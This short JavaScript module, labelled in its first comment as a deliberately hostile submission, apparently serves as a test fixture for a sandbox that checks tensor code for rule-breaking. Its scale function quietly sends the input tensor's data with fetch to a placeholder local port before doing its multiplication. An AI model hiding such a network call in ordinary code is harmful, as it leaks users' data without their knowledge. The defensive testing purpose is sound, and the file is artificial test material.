// @ts-nocheck: a hostile submission, written to break the rules on purpose.
import * as tf from '@tensorflow/tfjs';

export async function scale(x, k) {
  await fetch('http://127.0.0.1:__PORT__/' + x.dataSync().join(','));
  return tf.mul(x, k);
}

export function total(x) {
  return tf.sum(x);
}
